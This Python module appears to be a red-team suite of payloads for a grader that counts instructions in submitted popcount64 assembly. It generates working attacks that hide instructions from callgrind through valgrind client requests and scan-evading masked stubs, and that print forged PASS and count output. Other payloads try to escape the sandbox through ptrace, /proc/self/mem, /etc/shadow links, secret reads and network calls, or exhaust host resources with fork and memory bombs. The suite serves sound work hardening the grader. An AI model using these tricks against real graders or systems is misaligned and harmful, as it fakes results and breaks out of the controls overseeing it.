"""Attack bodies for the asm domain: candidates are x86-64 assembly for `popcount64` (or `djb2`).

Attacks on the instruction count are written in assembly by hand where the bytes matter (valgrind's
client-request preamble); attacks that need system calls are written in C and turned into the
assembly a candidate would submit by `gcc -S` on the host (compiled here, never run here, in
parallel: builders of C payloads return futures). Every
counted attack computes the right answer slowly (about 100x the -O3 baseline's instructions), so
an attack that worked shows up as a Pass that claims to be faster than gcc -O3.
"""

from __future__ import annotations

import subprocess
from concurrent.futures import Future, ThreadPoolExecutor

# valgrind.h: the amd64 "special instruction" preamble, then `xchg %rbx,%rbx` (a client request
# with its argument block at %rax and the default result in %rdx; the result comes back in %rdx)
PREAMBLE = "\trolq\t$3, %rdi\n\trolq\t$13, %rdi\n\trolq\t$61, %rdi\n\trolq\t$51, %rdi\n"
REQUEST = {"dump": 0x43540000, "zero": 0x43540001, "toggle": 0x43540002, "start": 0x43540004, "stop": 0x43540005}
CLIENT_CALL1 = 0x1102  # VALGRIND_NON_SIMD_CALL1: valgrind runs the function natively, uncounted
# the 20 bytes of a request stub (preamble, xchg %rbx,%rbx, ret) as little-endian quadwords
STUB_QWORDS = (0x0DC7C14803C7C148, 0x33C7C1483DC7C148, 0x00000000C3DB8748)
MASK = 0x5A5A5A5A5A5A5A5A  # the stub is stored XORed with this, so no scan of the file can see it
BUSY = 8000  # iterations of an empty loop per call: about 100x the baseline's instructions


def popcount(body: str, data: str = "") -> str:
    return f"\t.text\n\t.globl\tpopcount64\n\t.type\tpopcount64, @function\npopcount64:\n{body}\tret\n{data}"


# the slow but right popcount of %rdi into %rax (clobbers rcx, rdx, rsi; keeps rdi)
SLOW = (
    f"\tmovq\t%rdi, %rsi\n\txorl\t%eax, %eax\n\tmovl\t${BUSY}, %ecx\n1:\n\tsubl\t$1, %ecx\n\tjne\t1b\n"
    "\tmovl\t$64, %ecx\n2:\n\tmovq\t%rsi, %rdx\n\tandl\t$1, %edx\n\taddq\t%rdx, %rax\n\tshrq\t%rsi\n"
    "\tsubl\t$1, %ecx\n\tjne\t2b\n"
)
HONEST_SLOW = popcount(SLOW)


def request(block: str) -> str:
    """A client request whose argument block is at `block` (clobbers rax and rdx)."""
    return f"\tleaq\t{block}(%rip), %rax\n\txorl\t%edx, %edx\n{PREAMBLE}\txchgq\t%rbx, %rbx\n"


def block(label: str, *words: int) -> str:
    values = ", ".join(str(w) for w in (*words, 0, 0, 0, 0, 0, 0)[:6])
    return f"\t.data\n\t.balign\t8\n{label}:\n\t.quad\t{values}\n"


def around_slow(name: str) -> str:
    """The finding: a request before and after the slow work (toggle collection off, then on)."""
    body = request(".Lreq") + SLOW + "\tmovq\t%rax, %r8\n" + request(".Lreq") + "\tmovq\t%r8, %rax\n"
    return popcount(body, block(".Lreq", REQUEST[name]))


def after_slow(name: str) -> str:
    """A request after the slow work of every call (zero or dump the counts so far)."""
    body = SLOW + "\tmovq\t%rax, %r8\n" + request(".Lreq") + "\tmovq\t%r8, %rax\n"
    return popcount(body, block(".Lreq", REQUEST[name]))


def stop_start() -> str:
    body = request(".Lstop") + SLOW + "\tmovq\t%rax, %r8\n" + request(".Lstart") + "\tmovq\t%r8, %rax\n"
    return popcount(body, block(".Lstop", REQUEST["stop"]) + block(".Lstart", REQUEST["start"]))


def non_simd_call() -> str:
    """VALGRIND_NON_SIMD_CALL1(native, x): the slow work runs on the real CPU, outside the count.
    Natively the request is a no-op leaving the default (-1) in %rdx: then it computes inline."""
    body = (
        "\tmovq\t%rdi, .Lcall+16(%rip)\n\tleaq\t.Lcall(%rip), %rax\n\tmovq\t$-1, %rdx\n"
        f"{PREAMBLE}\txchgq\t%rbx, %rbx\n\tcmpq\t$-1, %rdx\n\tje\t3f\n\tmovq\t%rdx, %rax\n\tret\n3:\n{SLOW}"
    )
    native = f"\t.text\n.Lnative:\n\tmovq\t%rsi, %rdi\n{SLOW.replace('1:', '4:').replace('1b', '4b').replace('2:', '5:').replace('2b', '5b')}\tret\n"
    data = f"\t.data\n\t.balign\t8\n.Lcall:\n\t.quad\t{CLIENT_CALL1}, .Lnative, 0, 0, 0, 0\n"
    return popcount(body, native + data)


def split_across_sections() -> str:
    """The preamble cut in two sections that the linker places back to back: no single section of
    the object holds it, only the linked program does."""
    halves = (
        "\t.section\t.text.ecot_a,\"ax\",@progbits\n.Lstub:\n\t.byte\t0x48, 0xc1, 0xc7, 0x03, 0x48, 0xc1, 0xc7, 0x0d\n"
        "\t.section\t.text.ecot_b,\"ax\",@progbits\n\t.byte\t0x48, 0xc1, 0xc7, 0x3d, 0x48, 0xc1, 0xc7, 0x33\n"
        "\txchgq\t%rbx, %rbx\n\tret\n"
    )
    call = "\tleaq\t.Lreq(%rip), %rax\n\txorl\t%edx, %edx\n\tcall\t.Lstub\n"
    body = call + SLOW + "\tmovq\t%rax, %r8\n" + call + "\tmovq\t%r8, %rax\n"
    return popcount(body, halves + block(".Lreq", REQUEST["toggle"]))


def spelled_out() -> str:
    """The preamble as computed `.byte` values behind a jump, called through a register."""
    stub = ("\tjmp\t9f\n.Lhidden:\n\t.byte\t0x40+8, 0xc0+1, 0xc0+7, 1+2, 0x40+8, 0xc0+1, 0xc0+7, 13\n"
            "\t.byte\t0x40+8, 0xc0+1, 0xc0+7, 61, 0x40+8, 0xc0+1, 0xc0+7, 51\n\txchgq\t%rbx, %rbx\n\tret\n9:\n")
    call = "\tleaq\t.Lreq(%rip), %rax\n\txorl\t%edx, %edx\n\tleaq\t.Lhidden(%rip), %r9\n\tcall\t*%r9\n"
    body = stub + call + SLOW + "\tmovq\t%rax, %r8\n" + call + "\tmovq\t%r8, %rax\n"
    return popcount(body, block(".Lreq", REQUEST["toggle"]))


# -- attacks written in C ------------------------------------------------------------------------
HEAD = ("#define _GNU_SOURCE\n#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include <unistd.h>\n"
        "#include <fcntl.h>\n#include <signal.h>\n#include <sys/syscall.h>\n#include <sys/stat.h>\n")
ORACLE = "long popcount64(unsigned long x) {{\n    int escaped = 0;\n{attack}    return escaped ? __builtin_popcountl(x) : 0;\n}}\n"
SLOW_C = (f"static long slow(unsigned long x) {{\n    for (volatile int i = 0; i < {BUSY}; i++) {{}}\n"
          "    long c = 0;\n    for (int k = 0; k < 64; k++) { c += x & 1; x >>= 1; }\n    return c;\n}\n")
STUB_C = (
    f"static volatile unsigned long mask = {MASK:#x}UL;\n"
    "static void stub_bytes(unsigned long *q) {\n"
    + "".join(f"    q[{i}] = {w ^ MASK:#x}UL ^ mask;\n" for i, w in enumerate(STUB_QWORDS))
    + "}\n"
    "static unsigned long req[6] = {0x43540002UL};\n"
    "static void request(void *stub) {\n"
    "    unsigned long a = (unsigned long)req, d = 0;\n"
    '    __asm__ volatile("call *%[s]" : "+a"(a), "+d"(d) : [s] "r"(stub) : "memory", "cc", "rdi");\n'
    "}\n"
)


_compilers = ThreadPoolExecutor(max_workers=4)  # the payloads compile side by side while the module loads


def c_to_asm(source: str, sections: dict[str, str] | None = None) -> Future[str]:
    """Compile a C payload to the assembly a candidate would submit (optionally renaming sections);
    the assembly, once `.result()` is asked for."""
    return _compilers.submit(_compile, source, sections)


def _compile(source: str, sections: dict[str, str] | None) -> str:
    flags = ["-O1", "-S", "-mno-red-zone", "-fno-asynchronous-unwind-tables", "-fcf-protection=none", "-fno-stack-protector", "-fno-pie"]
    proc = subprocess.run(["gcc", *flags, "-x", "c", "-", "-o", "-"], input=HEAD + source, capture_output=True, text=True, check=True)
    text = proc.stdout
    for old, new in (sections or {}).items():
        assert old in text, f"no {old!r} in the compiled payload"
        text = text.replace(old, new)
    return text


def oracle(attack: str, prelude: str = "") -> Future[str]:
    return c_to_asm(prelude + ORACLE.format(attack=attack))


def run_time_stub(make: str, prelude: str = "", sections: dict[str, str] | None = None) -> Future[str]:
    """Toggle collection off around the slow work through a stub made at run time by `make` (a C
    body returning the stub's address or 0); without a stub it is just slow and right."""
    source = (prelude + SLOW_C + STUB_C + f"static void *make_stub(void) {{\n{make}}}\n"
              "static void *stub; static int tried;\n"
              "long popcount64(unsigned long x) {\n"
              "    if (!tried) { tried = 1; stub = make_stub(); }\n"
              "    if (stub) request(stub);\n    long r = slow(x);\n    if (stub) request(stub);\n    return r;\n}\n")
    return c_to_asm(source, sections)


def mapped_stub(hint: int, prot: int, flags: int, then_protect: bool = False) -> Future[str]:
    """A stub in memory from mmap (raw system calls, so libc's wrappers cannot get in the way)."""
    protect = "    if (syscall(SYS_mprotect, p, 4096, 5) != 0) return 0;\n" if then_protect else ""
    make = (f"    long p = syscall(SYS_mmap, {hint:#x}UL, 4096, {prot}, {flags:#x}, -1, 0);\n"
            "    if (p == -1) return 0;\n    stub_bytes((unsigned long *)p);\n" + protect + "    return (void *)p;\n")
    return run_time_stub(make)


def writable_code_section() -> Future[str]:
    """The stub written into a section of the program that is both writable and executable."""
    prelude = 'static unsigned char wx[32] __attribute__((section(".ecotwx"), aligned(16)));\n'
    make = "    stub_bytes((unsigned long *)wx);\n    return wx;\n"
    return run_time_stub(make, prelude, {'.section\t.ecotwx,"aw"': '.section\t.ecotwx,"awx"'})


def proc_self_mem() -> Future[str]:
    """The stub written over a function of the program's own code through /proc/self/mem (which
    ignores page protections), trying both a read-write open and the write-only one the filter
    lets through for valgrind's dump."""
    prelude = '__attribute__((noinline, aligned(16))) static void patchme(void) { __asm__ volatile(".rept 32\\n\\tnop\\n\\t.endr"); }\n'
    make = (
        "    unsigned long q[3]; stub_bytes(q);\n    long at = (long)(void *)patchme;\n"
        '    long fd = syscall(SYS_open, "/proc/self/mem", O_RDWR);\n'
        "    if (fd >= 0 && syscall(SYS_pwrite64, fd, q, 20, at) == 20) return (void *)patchme;\n"
        '    fd = syscall(SYS_open, "/proc/self/mem", O_WRONLY | O_TRUNC);\n'
        "    if (fd >= 0 && syscall(SYS_lseek, fd, at, 0) == at && syscall(SYS_write, fd, q, 20) == 20) return (void *)patchme;\n"
        "    return 0;\n"
    )
    return run_time_stub(make, prelude)


def stub_from_ifunc_resolver() -> Future[str]:
    """The stub made by an IFUNC resolver, which libc runs before main (and, in a static program,
    before thread-local storage exists: hence a raw system call that touches no errno)."""
    source = (SLOW_C + STUB_C + "static void *stub;\n"
              "static long impl(unsigned long x) {\n    if (stub) request(stub);\n    long r = slow(x);\n"
              "    if (stub) request(stub);\n    return r;\n}\n"
              "static void *resolve(void) {\n    long p;\n"
              '    register long r10 __asm__("r10") = 0x22; register long r8 __asm__("r8") = -1; register long r9 __asm__("r9") = 0;\n'
              '    __asm__ volatile("syscall" : "=a"(p) : "0"(9L), "D"(0L), "S"(4096L), "d"(7L), "r"(r10), "r"(r8), "r"(r9)\n'
              '                     : "rcx", "r11", "memory");\n'
              "    if (p > -4096L && p < 0) return (void *)impl;\n"
              "    stub_bytes((unsigned long *)p);\n    stub = (void *)p;\n    return (void *)impl;\n}\n"
              'long popcount64(unsigned long x) __attribute__((ifunc("resolve")));\n')
    return c_to_asm(source)


def planted_valgrindrc() -> Future[str]:
    """Slow and right, and leaves `./.valgrindrc` asking callgrind to collect nothing, for a counted
    run that would start in the same folder."""
    source = (SLOW_C + "static int planted;\nlong popcount64(unsigned long x) {\n"
              "    if (!planted) {\n        planted = 1;\n"
              '        int fd = open(".valgrindrc", O_CREAT | O_WRONLY | O_TRUNC, 0600);\n'
              '        if (fd >= 0) { write(fd, "--collect-atstart=no\\n", 21); close(fd); }\n    }\n'
              "    return slow(x);\n}\n")
    return c_to_asm(source)


# -- the other attack classes, as oracles: right answers only if the attack worked --------------
def takeover() -> Future[str]:
    return oracle(
        "    long pids[2] = {1, syscall(SYS_getppid)};\n    for (int i = 0; i < 2; i++) {\n"
        "        if (pids[i] <= 0) continue;\n"
        "        if (syscall(SYS_ptrace, 16, pids[i], 0, 0) == 0) escaped = 1;  /* PTRACE_ATTACH */\n"
        "        char path[64]; snprintf(path, sizeof path, \"/proc/%ld/mem\", pids[i]);\n"
        "        if (syscall(SYS_open, path, O_RDWR) >= 0 || open(path, O_RDWR) >= 0) escaped = 1;\n    }\n")


def read_files(paths: list[str]) -> Future[str]:
    """Escaped if any of the files can be opened and read (through libc's openat and the raw open)."""
    listed = ", ".join(f'"{p}"' for p in paths)
    return oracle(
        f"    const char *paths[] = {{{listed}}};\n    char buf[16];\n"
        "    for (unsigned i = 0; i < sizeof paths / sizeof paths[0]; i++) {\n"
        "        long fd = open(paths[i], O_RDONLY);\n        if (fd < 0) fd = syscall(SYS_open, paths[i], O_RDONLY);\n"
        "        if (fd >= 0 && read(fd, buf, sizeof buf) > 0) escaped = 1;\n    }\n")


def host_environment(keys: tuple[str, ...]) -> Future[str]:
    listed = ", ".join(f'"{k}="' for k in keys)
    return oracle(
        f"    extern char **environ;\n    const char *keys[] = {{{listed}}};\n"
        "    for (char **e = environ; e && *e; e++)\n"
        "        for (unsigned i = 0; i < sizeof keys / sizeof keys[0]; i++)\n"
        "            if (!strncmp(*e, keys[i], strlen(keys[i]))) escaped = 1;\n")


def write_files(paths: list[str]) -> Future[str]:
    listed = ", ".join(f'"{p}"' for p in paths)
    return oracle(
        f"    const char *paths[] = {{{listed}}};\n"
        "    for (unsigned i = 0; i < sizeof paths / sizeof paths[0]; i++) {\n"
        "        long fd = open(paths[i], O_CREAT | O_WRONLY, 0644);\n"
        "        if (fd < 0) fd = syscall(SYS_open, paths[i], O_WRONLY | O_TRUNC);\n"
        "        if (fd >= 0 && write(fd, \"x\", 1) == 1) escaped = 1;\n    }\n")


NETWORK = oracle(
    "    struct { unsigned short family, port; unsigned addr; char zero[8]; } sa = {2, 0x3500, 0x01010101, {0}};\n"
    "    long fd = syscall(SYS_socket, 2, 1, 0);\n"
    "    if (fd >= 0 && syscall(SYS_connect, fd, &sa, sizeof sa) == 0) escaped = 1;\n")

# 2 GiB in 1 MiB writes: new files first, then the existing solution.s through the one open the
# filter allows; contained means a write fails (or the file-size limit ends it) well before the end
DISK_FILL = oracle(
    "    static char chunk[1 << 20];\n    static int tried;\n    long written = 0;\n"
    "    for (int i = 0; i < 32 && !tried; i++) {\n        char name[32]; snprintf(name, sizeof name, \"fill%d.bin\", i);\n"
    "        long fd = open(name, O_CREAT | O_WRONLY | O_TRUNC, 0600);\n"
    "        if (fd < 0) fd = syscall(SYS_open, \"solution.s\", O_WRONLY | O_TRUNC);\n"
    "        if (fd < 0) break;\n"
    "        for (int j = 0; j < 64 && write(fd, chunk, sizeof chunk) == sizeof chunk; j++) written++;\n"
    "        close(fd);\n    }\n    tried = 1;\n    if (written >= 2048) escaped = 1;\n")

MARKER_DIRS = '"/tmp", "/dev/shm", getenv("HOME"), "..", "."'
PLANT = c_to_asm(
    "long popcount64(unsigned long x) {\n    static int done;\n"
    f"    const char *dirs[] = {{{MARKER_DIRS}}};\n"
    "    for (unsigned i = 0; i < 5 && !done; i++) {\n        char path[4096];\n"
    "        snprintf(path, sizeof path, \"%s/ecot_persist_marker\", dirs[i] ? dirs[i] : \".\");\n"
    "        long fd = open(path, O_CREAT | O_WRONLY, 0644);\n        if (fd >= 0) close(fd);\n    }\n"
    "    done = 1;\n    return __builtin_popcountl(x);\n}\n")
FIND_PLANTED = oracle(
    f"    const char *dirs[] = {{{MARKER_DIRS}}};\n    struct stat st;\n"
    "    for (unsigned i = 0; i < 5; i++) {\n        char path[4096];\n"
    "        snprintf(path, sizeof path, \"%s/ecot_persist_marker\", dirs[i] ? dirs[i] : \".\");\n"
    "        if (stat(path, &st) == 0) escaped = 1;\n    }\n")

FORK_BOMB = c_to_asm("long popcount64(unsigned long x) { for (;;) fork(); return 0; }\n")
MEMORY_BOMB = c_to_asm("long popcount64(unsigned long x) {\n    for (;;) { char *p = malloc(1 << 26); if (!p) return -1; memset(p, 1, 1 << 26); }\n}\n")
OUTPUT_FLOOD = c_to_asm("long popcount64(unsigned long x) { static char b[65536]; memset(b, 65, sizeof b); for (;;) write(1, b, sizeof b); }\n")


def endless_loop(marker: str) -> Future[str]:
    """Spins forever after starting a long sleeper (`marker` is its argv[0], since sleep refuses an extra
    operand) that must not outlive the job."""
    return c_to_asm(
        "long popcount64(unsigned long x) {\n"
        f'    if (fork() == 0) {{ execl("/bin/sleep", "{marker}", "300", (char *)0); _exit(0); }}\n'
        "    for (;;) { __asm__ volatile(\"\"); }\n    return 0;\n}\n")


FORGED_LINES = c_to_asm(  # djb2's first expected lines, then an exit before the driver prints anything
    'unsigned long djb2(const char *s) {\n    static const char lines[] = "0\\n1\\n5381\\n";\n'
    "    for (int i = 0; i < 400; i++) write(1, lines, sizeof lines - 1);\n    _exit(0);\n}\n")
FORGED_MARKER = c_to_asm('long popcount64(unsigned long x) {\n    static const char m[] = "\\n@ECOT-TIMEOUT case=0\\n";\n'
                         "    write(2, m, sizeof m - 1);\n    return 0;\n}\n")
FORGED_PASS = c_to_asm(
    'long popcount64(unsigned long x) {\n    static const char m[] = "PASS\\nall 207 cases match the C function; '
    '1000.00x faster than gcc -O3\\n==2== Collected : 1\\n==2== I   refs:      1\\n";\n'
    "    write(1, m, sizeof m - 1);\n    write(2, m, sizeof m - 1);\n    return 0;\n}\n")
FORGED_SUMMARY = c_to_asm(  # right and slow, claiming on stderr what a tiny callgrind count would say
    SLOW_C + 'long popcount64(unsigned long x) {\n    static const char m[] = "==2== Events    : Ir\\n==2== Collected : 1\\n'
    'summary: 1\\ntotals: 1\\n";\n    write(2, m, sizeof m - 1);\n    return slow(x);\n}\n')

EXIT_AT_ONCE = c_to_asm("long popcount64(unsigned long x) { syscall(SYS_exit_group, 0); return 0; }\n")
# right, except that it exits at once when the program's arguments (just below the environment on
# the initial stack) say it is the wall-time benchmark, which would then look fast
EXIT_IN_BENCHMARK = c_to_asm(
    "extern char **environ;\nlong popcount64(unsigned long x) {\n"
    "    for (int i = 2; i < 8; i++) {\n        char *arg = environ[-i];\n"
    "        if ((unsigned long)arg > 4096 && !strcmp(arg, \"bench\")) syscall(SYS_exit_group, 0);\n    }\n"
    "    return __builtin_popcountl(x);\n}\n")

# swaps its program for a link to a host secret, then faults: the host's fault diagnosis reads it
SWAP_PROGRAM = c_to_asm(
    "long popcount64(unsigned long x) {\n    unlink(\"prog\");\n    symlink(\"/etc/shadow\", \"prog\");\n"
    "    syscall(SYS_rename, \"prog\", \"prog.old\");\n    return *(volatile long *)0;\n}\n")

# learns callgrind's output file from /proc/1/cmdline, then leaves a child to replace it with a
# forged count once valgrind has written it, and computes the right answers slowly meanwhile
REPLACE_COUNT = c_to_asm(
    SLOW_C + "static void forge(void) {\n    char cmd[8192] = {0}, *name = 0;\n"
    "    long fd = open(\"/proc/1/cmdline\", O_RDONLY);\n    if (fd < 0) return;\n"
    "    long n = read(fd, cmd, sizeof cmd - 1);\n    close(fd);\n"
    "    for (long i = 0; i < n; i += strlen(cmd + i) + 1)\n"
    "        if (!strncmp(cmd + i, \"--callgrind-out-file=\", 21)) name = cmd + i + 21;\n"
    "    if (!name) return;\n    fd = open(\"forged.out\", O_CREAT | O_WRONLY | O_TRUNC, 0644);\n"
    "    if (fd < 0) return;\n    write(fd, \"events: Ir\\nsummary: 1\\nfn=popcount64\\n0 1\\ntotals: 1\\n\", 50);\n    close(fd);\n"
    "    if (fork() != 0) return;\n    for (;;) {\n        char buf[65536]; long got = 0, f = open(name, O_RDONLY);\n"
    "        if (f >= 0) { got = read(f, buf, sizeof buf - 1); close(f); }\n"
    "        if (got > 0) { buf[got] = 0; if (strstr(buf, \"totals:\")) { rename(\"forged.out\", name); kill(getpid(), SIGKILL); } }\n"
    "    }\n}\n"
    "long popcount64(unsigned long x) {\n    static int done;\n    if (!done) { done = 1; forge(); }\n    return slow(x);\n}\n")
